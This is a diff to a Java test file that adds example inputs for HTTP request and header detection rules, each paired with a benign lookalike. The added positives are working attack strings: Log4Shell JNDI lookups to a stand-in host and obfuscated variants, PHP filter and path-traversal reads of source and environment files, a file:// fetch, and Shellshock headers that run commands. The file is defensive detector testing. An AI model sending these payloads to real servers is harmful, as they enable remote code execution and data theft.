@@ -114,6 +114,18 @@ class RuleTablesTest {
                 "GET /docs/information-schema.html HTTP/1.1");
         ex(HttpRules.REQUEST, 10, "GET /lookup.php?host=localhost;id HTTP/1.1", "GET /app;jsessionid=AB12 HTTP/1.1");
         ex(HttpRules.REQUEST, 11, "GET /q?s=<script>alert(1)</script> HTTP/1.1", "GET /scripts/app.js?onloaded=1 HTTP/1.1");
+        ex(HttpRules.REQUEST, 12, "GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1", "GET /tpl?name=${user} HTTP/1.1");
+        ex(HttpRules.REQUEST, 12, "GET /?x=${${lower:j}ndi:${lower:l}dap://h/a} HTTP/1.1", "GET /price?v=$5{off} HTTP/1.1");
+        ex(HttpRules.REQUEST, 12, "GET /?x=${${::-j}${::-n}di:rmi://h/a} HTTP/1.1", "GET /a?b=${c}-${d} HTTP/1.1");
+        ex(HttpRules.REQUEST, 13, "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1",
+                "GET /docs/php/filters.html HTTP/1.1");
+        ex(HttpRules.REQUEST, 13, "GET /view?file=../../../../proc/self/environ HTTP/1.1", "GET /proc/selfie.jpg HTTP/1.1");
+        ex(HttpRules.REQUEST, 13, "GET /fetch?u=file:///etc/hosts HTTP/1.1", "GET /go?u=https://example.org/ HTTP/1.1");
+        ex(HttpRules.HEADER, 0, "User-Agent: ${jndi:ldap://198.51.100.7/Basic/Command/Base64/aWQ=}",
+                "User-Agent: curl/8.5.0 (x86_64) ${HOME}");
+        ex(HttpRules.HEADER, 0, "X-Api-Version: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/a}", "Accept: */*");
+        ex(HttpRules.HEADER, 1, "User-Agent: () { :; }; /bin/bash -c 'id'", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)");
+        ex(HttpRules.HEADER, 1, "Referer: () { ignored;}; echo; /usr/bin/id", "Cookie: cb=function(){return 1};");
     }
 
     static Stream<Arguments> examples() {
@@ -142,7 +154,7 @@ class RuleTablesTest {
         List<List<? extends Rule<?>>> tables = List.of(ShellRules.COMMANDS, ShellRules.OUTPUT, ShellRules.PROMPTS,
                 LoginRules.SERVER, FtpRules.COMMANDS, FtpRules.GUEST_COMMANDS, FtpRules.REPLIES,
                 MailRules.POP3_COMMANDS, MailRules.POP3_REPLIES, MailRules.IMAP_COMMANDS, MailRules.IMAP_REPLIES,
-                MailRules.SMTP_COMMANDS, MailRules.SMTP_ENVELOPE, HttpRules.LINES, HttpRules.REQUEST);
+                MailRules.SMTP_COMMANDS, MailRules.SMTP_ENVELOPE, HttpRules.LINES, HttpRules.REQUEST, HttpRules.HEADER);
         Map<Rule<?>, Boolean> covered = new IdentityHashMap<>();
         EXAMPLES.forEach(e -> covered.put(e.table().get(e.rule()), true));
         for (List<? extends Rule<?>> t : tables) {
@@ -173,7 +185,7 @@ class RuleTablesTest {
         List<List<? extends Rule<?>>> tables = List.of(ShellRules.COMMANDS, ShellRules.OUTPUT, ShellRules.PROMPTS,
                 LoginRules.SERVER, FtpRules.COMMANDS, FtpRules.GUEST_COMMANDS, FtpRules.REPLIES,
                 MailRules.POP3_COMMANDS, MailRules.POP3_REPLIES, MailRules.IMAP_COMMANDS, MailRules.IMAP_REPLIES,
-                MailRules.SMTP_COMMANDS, MailRules.SMTP_ENVELOPE, HttpRules.LINES, HttpRules.REQUEST);
+                MailRules.SMTP_COMMANDS, MailRules.SMTP_ENVELOPE, HttpRules.LINES, HttpRules.REQUEST, HttpRules.HEADER);
         long checkedMatches = 0;
         long anchoredChecks = 0;
         for (List<? extends Rule<?>> table : tables) {
